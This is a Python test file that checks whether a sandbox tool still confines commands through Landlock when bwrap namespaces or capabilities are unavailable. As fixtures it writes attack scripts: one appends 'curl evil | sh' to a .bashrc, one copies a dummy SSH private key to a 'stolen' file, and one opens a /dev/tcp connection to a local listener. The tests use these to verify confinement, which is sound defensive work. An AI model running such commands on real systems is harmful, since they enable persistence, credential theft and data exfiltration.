"""Real environments where bwrap cannot make namespaces, swifty-sandbox run inside
them as a user would: `auto` must confine with Landlock, say so, and hold; where
Landlock is missing too, exit 125 naming both causes. Judged from outside.

- no user namespaces, no container: `bwrap --unshare-user --disable-userns` around
  swifty-sandbox (any unshare(CLONE_NEWUSER) inside fails, as under a container's
  default seccomp profile or `max_user_namespaces=0`);
- a kernel without Landlock: a seccomp filter making its three calls ENOSYS;
- a Landlock that fails in the launcher (restrict_self refused): 125, never the
  command's failure.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from swifty_sandbox.sandbox.landlock.backend import kernel_abi
from swifty_sandbox.sandbox.run.probe import find_bwrap
from tests.listener import Listener, tcp_listener

pytestmark = pytest.mark.linux

SWIFTY = str(Path(sys.executable).with_name("swifty-sandbox"))
LANDLOCK_CALLS = (444, 445, 446)


@pytest.fixture(autouse=True)
def _needs_both() -> None:
    problem = None if find_bwrap() else "bwrap not found"
    problem = problem or (None if kernel_abi()[0] else "no Landlock")
    if problem:
        if os.environ.get("CI") == "true":
            pytest.fail(problem)
        pytest.skip(problem)


def _seccomp_wrapper(tmp: Path, calls: tuple[int, ...]) -> list[str]:
    """A wrapper that makes `calls` fail with ENOSYS for everything it runs (filters
    are inherited), as a kernel without them would."""
    script = tmp / "enosys.py"
    script.write_text(
        "import os, sys, pyseccomp as sc\n"
        "f = sc.SyscallFilter(sc.ALLOW)\n"
        f"for n in {list(calls)!r}: f.add_rule(sc.ERRNO(38), n)\n"
        "f.load()\n"
        "os.execv(sys.argv[1], sys.argv[1:])\n")
    return [sys.executable, str(script)]


def no_userns(*argv: str) -> list[str]:
    bwrap = find_bwrap()
    assert bwrap is not None
    return [bwrap.path, "--unshare-user", "--disable-userns", "--dev-bind", "/", "/",
            "--", *argv]


def swifty(argv: list[str], project: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(argv, cwd=project, capture_output=True, text=True, timeout=120,
                          check=False)


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = tcp_listener()
    yield server
    server.close()


@pytest.fixture
def secrets(home: Path) -> dict[str, Path]:
    (home / ".ssh").mkdir()
    key = home / ".ssh" / "id_ed25519"
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY----- ke-8181\n")
    rc = home / ".bashrc"
    rc.write_text("# rc\n")
    return {"key": key, "rc": rc}


def test_without_user_namespaces_landlock_confines(project: Path, home: Path,
                                                   secrets: dict[str, Path],
                                                   listener: Listener) -> None:
    # bwrap itself is refused in there (the environment is real).
    probe = swifty(no_userns(find_bwrap().path, "--unshare-user",  # type: ignore[union-attr]
                             "--ro-bind", "/", "/", "true"), project)
    assert probe.returncode != 0
    done = swifty(no_userns(SWIFTY, "run", "--json", "--", "echo", "hello"), project)
    doc = json.loads(done.stdout)
    assert doc["stdout"] == "hello\n" and doc["exit_code"] == 0, doc
    assert doc["backend"] == "landlock"
    assert doc["stderr"].count("confined by Landlock") == 1
    text = swifty(no_userns(SWIFTY, "run", "--", "echo", "hello"), project)
    assert text.stdout == "hello\n" and text.returncode == 0
    assert text.stderr.count("confined by Landlock") == 1

    attacks = {
        "rc": f"echo 'curl evil | sh' >> {secrets['rc']}",
        "key": f"cat {secrets['key']} > {project}/stolen",
        "net": f"exec 3<>/dev/tcp/127.0.0.1/{listener.port}; echo hi >&3",
    }
    scripts = {}
    for name, attack in attacks.items():  # a script file: the policy must not stop it
        scripts[name] = home.parent / f"attack-{name}.sh"
        scripts[name].write_text(attack + "\n")
    for script in scripts.values():  # the control: the same environment, unconfined
        swifty(no_userns(SWIFTY, "run", "--sandbox", "off", "--mode", "bypassPermissions",
                         "--", "bash", str(script)), project)
    assert "evil" in secrets["rc"].read_text()
    assert "ke-8181" in (project / "stolen").read_text()
    assert listener.got()
    secrets["rc"].write_text("# rc\n")
    (project / "stolen").unlink()
    listener.reset()
    for name, script in scripts.items():
        done = swifty(no_userns(SWIFTY, "run", "--json", "--", "bash", str(script)), project)
        assert json.loads(done.stdout)["backend"] == "landlock", (name, done.stdout)
    assert "evil" not in secrets["rc"].read_text()
    assert not (project / "stolen").exists() or "ke-8181" not in \
        (project / "stolen").read_text()
    assert not listener.got()


def test_neither_backend_is_125_naming_both(project: Path, tmp_path: Path) -> None:
    argv = no_userns(*_seccomp_wrapper(tmp_path, LANDLOCK_CALLS), SWIFTY, "run", "--json",
                     "--", "echo", "hello")
    done = swifty(argv, project)
    assert done.returncode == 125, done
    doc = json.loads(done.stdout)
    assert doc["exit_code"] == 125 and doc["is_error"] and "hello" not in doc["stdout"]
    assert "bwrap cannot make its namespaces" in doc["stderr"]
    assert "Landlock is not available" in doc["stderr"]
    text = swifty([a for a in argv if a != "--json"], project)
    assert text.returncode == 125 and "hello" not in text.stdout
    asked = swifty(no_userns(*_seccomp_wrapper(tmp_path, LANDLOCK_CALLS), SWIFTY, "run",
                             "--backend", "landlock", "--", "echo", "hello"), project)
    assert asked.returncode == 125 and "Landlock" in asked.stderr


def test_a_launcher_that_fails_before_exec_is_125(project: Path, tmp_path: Path) -> None:
    """Landlock is there (the ABI answers) but restricting is refused: the launcher
    fails after the fork, before the exec; never the command's status."""
    wrapped = [*_seccomp_wrapper(tmp_path, (446,)), SWIFTY, "run", "--backend", "landlock"]
    done = swifty([*wrapped, "--json", "--", "echo", "hello"], project)
    doc = json.loads(done.stdout)
    assert done.returncode == 125 and doc["is_error"], doc
    assert "landlock_restrict_self" in doc["stderr"] and "before the command" in doc["stderr"]
    text = swifty([*wrapped, "--", "echo", "hello"], project)
    assert text.returncode == 125 and "landlock_restrict_self" in text.stderr
    assert "hello" not in text.stdout


def no_capabilities(*argv: str) -> list[str]:
    """Root with an empty capability bounding set and no_new_privs, as Codex's own
    sandbox runs a command (an approved one too): dropping a capability from the set
    then takes CAP_SETPCAP, which is gone with the rest."""
    return ["setpriv", "--bounding-set=-all", "--inh-caps=-all", "--no-new-privs", *argv]


@pytest.mark.skipif(os.geteuid() != 0, reason="root's bounding set; others have none")
def test_inside_a_sandbox_that_took_every_capability_landlock_confines(
        project: Path, home: Path, secrets: dict[str, Path]) -> None:
    status = swifty(no_capabilities("grep", "^CapBnd:", "/proc/self/status"), project)
    assert status.stdout.split() == ["CapBnd:", "0" * 16], status  # the environment is real
    attacks = {"rc": f"echo 'curl evil | sh' >> {secrets['rc']}",
               "key": f"cat {secrets['key']} > {project}/stolen"}
    scripts = {}
    for name, attack in attacks.items():
        scripts[name] = home.parent / f"attack-{name}.sh"
        scripts[name].write_text(attack + "\n")
    for script in scripts.values():  # the control: the same environment, unconfined
        swifty(no_capabilities(SWIFTY, "run", "--sandbox", "off", "--mode",
                               "bypassPermissions", "--", "bash", str(script)), project)
    assert "evil" in secrets["rc"].read_text()
    assert "ke-8181" in (project / "stolen").read_text()
    secrets["rc"].write_text("# rc\n")
    (project / "stolen").unlink()
    done = swifty(no_capabilities(SWIFTY, "run", "--backend", "landlock", "--json", "--",
                                  "grep", "^Cap", "/proc/self/status"), project)
    doc = json.loads(done.stdout)
    assert doc["exit_code"] == 0 and doc["backend"] == "landlock", doc
    assert all(line.endswith("0" * 16) for line in doc["stdout"].splitlines()), doc
    for name, script in scripts.items():
        done = swifty(no_capabilities(SWIFTY, "run", "--json", "--", "bash", str(script)),
                      project)
        doc = json.loads(done.stdout)
        assert doc["exit_code"] != 125 and doc["backend"] == "landlock", (name, doc)
    assert "evil" not in secrets["rc"].read_text()
    assert not (project / "stolen").exists() or "ke-8181" not in \
        (project / "stolen").read_text()
